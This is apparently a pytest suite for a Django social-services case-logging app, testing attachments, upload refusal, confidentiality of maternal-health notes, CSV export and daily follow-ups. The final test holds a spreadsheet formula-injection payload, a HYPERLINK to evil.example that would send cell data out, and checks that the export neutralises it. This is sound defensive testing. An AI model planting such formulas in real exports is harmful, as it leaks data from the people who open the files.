import csv
import datetime as dt
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from relais.appointments.services import Actor, appointment_book, opening_save
from relais.exchanges.models import Exchange
from relais.privacy.models import AccessLog
from relais.territory.models import Membership
from relais.territory.policies import agent_access_scope
from tests.appointments.factories import AgendaFactory
from tests.exchanges.factories import ExchangeFactory
from tests.territory.factories import AgentFactory

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def _form(world, **overrides):
    now = timezone.localtime() - dt.timedelta(minutes=30)
    data = {
        "channel": "counter",
        "occurred_on": now.strftime("%d/%m/%Y"),
        "occurred_time": now.strftime("%H:%M"),
        "service": world.accueil92.pk,
        "summary": "Demande d'information sur l'APA pour sa mère.",
        "follow_up": "Envoyer le formulaire APA",
        "follow_up_due": (now + dt.timedelta(days=3)).strftime("%d/%m/%Y"),
        "duration_minutes": "15",
    }
    data.update(overrides)
    return data


def test_agent_logs_an_exchange_with_an_attachment_and_sees_it_on_the_timeline(world, person92):
    client = world.client_for(world.agent92)
    upload = SimpleUploadedFile("courrier.pdf", PDF, content_type="application/pdf")
    response = client.post(reverse("exchanges:create", args=[person92.public_id]), {**_form(world), "files": [upload]})
    assert response.status_code == 302
    exchange = Exchange.objects.get()
    assert (exchange.agent, exchange.organisation, exchange.channel) == (world.agent92, world.org92, "counter")
    assert exchange.attachments.get().original_name == "courrier.pdf"
    page = client.get(reverse("people:detail", args=[person92.public_id]))
    assert exchange in [entry.item for entry in page.context["timeline"]["items"]]
    assert "Envoyer le formulaire APA" in page.content.decode()
    download = client.get(reverse("exchanges:attachment", args=[exchange.public_id, exchange.attachments.get().public_id]))
    assert b"".join(download.streaming_content) == PDF
    assert AccessLog.objects.filter(action="download", person_id=person92.pk).exists()


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("scan.pdf", b"%PDF-1.4 truncated", "PDF incomplet"),
        ("virus.exe", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 100, "n'est pas d'un type accepté"),
        ("photo.pdf", b"\x89PNG\r\n\x1a\n" + b"\x00" * 50, "son contenu est un fichier image PNG"),
    ],
)
def test_refused_files_say_why_and_nothing_is_saved(world, person92, name, content, message):
    client = world.client_for(world.agent92)
    response = client.post(
        reverse("exchanges:create", args=[person92.public_id]), {**_form(world), "files": [SimpleUploadedFile(name, content)]}
    )
    assert response.status_code == 422
    assert message in " ".join(response.context["exchange_form"].errors["files"])
    assert not Exchange.objects.exists()


def test_a_file_over_the_limit_is_refused_with_the_limit(world, person92, settings):
    settings.ATTACHMENT_MAX_BYTES = 1024
    client = world.client_for(world.agent92)
    big = SimpleUploadedFile("gros.pdf", PDF + b"0" * 2048)
    response = client.post(reverse("exchanges:create", args=[person92.public_id]), {**_form(world), "files": [big]})
    assert "la limite est de 1,0\xa0Kio" in " ".join(response.context["exchange_form"].errors["files"])
    assert not Exchange.objects.exists()


def test_an_exchange_in_the_future_or_for_a_service_of_another_agent_is_refused(world, person92):
    client = world.client_for(world.agent92)
    future = timezone.localtime() + dt.timedelta(days=1)
    response = client.post(
        reverse("exchanges:create", args=[person92.public_id]), _form(world, occurred_on=future.strftime("%d/%m/%Y"))
    )
    assert "dans le futur" in " ".join(
        response.context["exchange_form"].errors["occurred_at"]
        if "occurred_at" in response.context["exchange_form"].errors
        else response.context["exchange_form"].non_field_errors()
    )
    response = client.post(reverse("exchanges:create", args=[person92.public_id]), _form(world, service=world.pmi92.pk))
    assert "service" in response.context["exchange_form"].errors
    assert not Exchange.objects.exists()


def test_pmi_exchange_content_is_hidden_from_other_services(world, person92):
    ExchangeFactory(
        persons=[person92],
        agent=world.pmi_agent,
        service=world.pmi92,
        organisation=world.org92,
        summary="Suivi de grossesse, 7e mois",
    )
    own = world.client_for(world.pmi_agent).get(reverse("people:detail", args=[person92.public_id])).content.decode()
    assert "Suivi de grossesse" in own
    other = world.client_for(world.agent92).get(reverse("people:detail", args=[person92.public_id])).content.decode()
    assert "Suivi de grossesse" not in other
    assert "contenu est réservé" in other and "PMI 92" in other


def test_timeline_filters_by_channel_and_service(world, person92):
    call = ExchangeFactory(
        persons=[person92], agent=world.agent92, service=world.accueil92, organisation=world.org92, channel="call_in"
    )
    mail = ExchangeFactory(
        persons=[person92], agent=world.agent92, service=world.accueil92, organisation=world.org92, channel="email"
    )
    client = world.client_for(world.agent92)
    response = client.get(reverse("people:timeline", args=[person92.public_id]), {"channel": "email"})
    assert [entry.item for entry in response.context["timeline"]["items"]] == [mail]
    response = client.get(reverse("people:timeline", args=[person92.public_id]), {"service": world.accueil92.pk})
    assert {entry.item for entry in response.context["timeline"]["items"]} == {call, mail}


def test_csv_export_opens_in_french_excel_and_is_logged(world, person92):
    ExchangeFactory(
        persons=[person92], agent=world.agent92, service=world.accueil92, organisation=world.org92, summary="Réclamation ; délai"
    )
    ExchangeFactory(
        persons=[person92], agent=world.pmi_agent, service=world.pmi92, organisation=world.org92, summary="Confidentiel santé"
    )
    response = world.client_for(world.agent92).get(reverse("exchanges:export"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Date", "Heure", "Canal"]
    summaries = {row[9] for row in rows[1:]}
    assert "Réclamation ; délai" in summaries and "Confidentiel santé" not in summaries
    assert AccessLog.objects.filter(action="export", person_id=person92.pk).count() == 1


def test_my_day_lists_my_due_follow_ups_and_closing_one_removes_it(world, person92):
    today = timezone.localdate()
    due = ExchangeFactory(
        persons=[person92],
        agent=world.agent92,
        service=world.accueil92,
        organisation=world.org92,
        follow_up="Rappeler",
        follow_up_due=today - dt.timedelta(days=1),
    )
    ExchangeFactory(
        persons=[person92],
        agent=world.agent92,
        service=world.accueil92,
        organisation=world.org92,
        follow_up="Plus tard",
        follow_up_due=today + dt.timedelta(days=30),
    )
    client = world.client_for(world.agent92)
    response = client.get(reverse("workspace:my_day"))
    assert response.context["follow_ups"] == [due] and response.context["overdue_count"] == 1
    client.post(reverse("exchanges:close_follow_up", args=[due.public_id]))
    assert client.get(reverse("workspace:my_day")).context["follow_ups"] == []


def test_exchange_list_filters_and_counts_queries(world, person92, django_assert_max_num_queries):
    for _ in range(5):
        ExchangeFactory(persons=[person92], agent=world.agent92, service=world.accueil92, organisation=world.org92)
    client = world.client_for(world.agent92)
    # Constant, whatever the number of exchanges: the access log's entries for the persons listed are
    # one insert (and, on PostgreSQL, one statement to commit that read without waiting for the disk).
    with django_assert_max_num_queries(13):
        response = client.get(reverse("exchanges:list"))
    assert response.context["page"].paginator.count == 5
    response = client.get(reverse("exchanges:list"), {"channel": "visio"})
    assert response.context["page"].paginator.count == 0


def test_my_day_lists_my_appointments_and_those_of_my_site(world, booking, person92, person78, monkeypatch):
    Membership.objects.filter(agent=world.agent92).update(site=booking.site)
    colleague = AgentFactory(email="collegue@hauts-de-seine.fr", memberships=[(world.org92, world.accueil92)])
    their_agenda = AgendaFactory(
        organisation=world.org92, service=world.accueil92, agent=colleague, name="Sophie Girard", site=booking.site
    )
    scope = agent_access_scope(world.agent92)
    mine = appointment_book(
        motive=booking.motive, agenda=booking.agenda, start=booking.at(9), persons=[person92],
        actor=Actor.for_scope(scope, booking.motive),
    )  # fmt: skip
    opening_save(
        scope=agent_access_scope(colleague), agenda=their_agenda, motives=[booking.motive], weekdays=[0, 1, 2, 3, 4],
        start_time=dt.time(9), end_time=dt.time(12), valid_from=dt.date.today(), site=booking.site,
    )  # fmt: skip
    theirs = appointment_book(
        motive=booking.motive, agenda=their_agenda, start=booking.at(10), persons=[person78],
        actor=Actor.for_scope(agent_access_scope(colleague), booking.motive),
    )  # fmt: skip
    monkeypatch.setattr("relais.exchanges.views.timezone.localdate", lambda *args: booking.day)

    response = world.client_for(world.agent92).get(reverse("workspace:my_day"))
    assert response.context["my_appointments"] == [mine]
    assert response.context["site_appointments"] == [theirs]
    page = response.content.decode()
    assert "Mes rendez-vous du jour (1)" in page and f"Aujourd'hui à {booking.site.name} (1)" in page
    assert "Sophie Girard" in page and person92.display_name in page


def test_csv_export_writes_formula_like_text_as_text(world, person92):
    person92.usage_name = "@somme(A1:A9)"
    person92.save()
    ExchangeFactory(
        persons=[person92], agent=world.agent92, service=world.accueil92, organisation=world.org92,
        summary='=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")', follow_up="-2+3",
    )  # fmt: skip
    response = world.client_for(world.agent92).get(reverse("exchanges:export"))
    row = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig").splitlines()[1]), delimiter=";"))
    assert row[9] == '\'=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")'
    assert row[10] == "'-2+3"
    assert row[7].startswith("'@SOMME(A1:A9)")
